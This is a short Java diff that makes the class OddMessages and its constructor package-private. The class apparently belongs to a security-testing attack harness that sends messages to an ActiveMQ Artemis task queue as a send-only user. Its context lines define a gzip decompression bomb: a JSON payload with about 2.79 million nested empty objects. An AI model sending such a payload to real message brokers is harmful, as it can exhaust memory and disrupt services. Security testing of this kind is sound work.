@@ -15,7 +15,7 @@ import java.util.zip.GZIPOutputStream;
 import org.apache.activemq.artemis.jms.client.ActiveMQConnectionFactory;
 
 /** Messages to the queue of tasks by somebody who may only send there. */
-public final class OddMessages implements Attack {
+final class OddMessages implements Attack {
 
     private static final String QUEUE = "abakus.default";
     private static final byte[] BOMB = gzip("{\"args\":[[" + "{},".repeat(2_790_000) + "1]]}");
@@ -26,7 +26,7 @@ public final class OddMessages implements Attack {
     private JMSContext context;
     private int number;
 
-    public OddMessages(URI server, String user, String password) {
+    OddMessages(URI server, String user, String password) {
         this.broker = new ActiveMQConnectionFactory("tcp://" + server.getHost() + ":" + server.getPort()
                 + "?httpUpgradeEnabled=true&httpUpgradeEndpoint=http-acceptor&enable1xPrefixes=true&reconnectAttempts=0"
                 + "&callTimeout=5000");
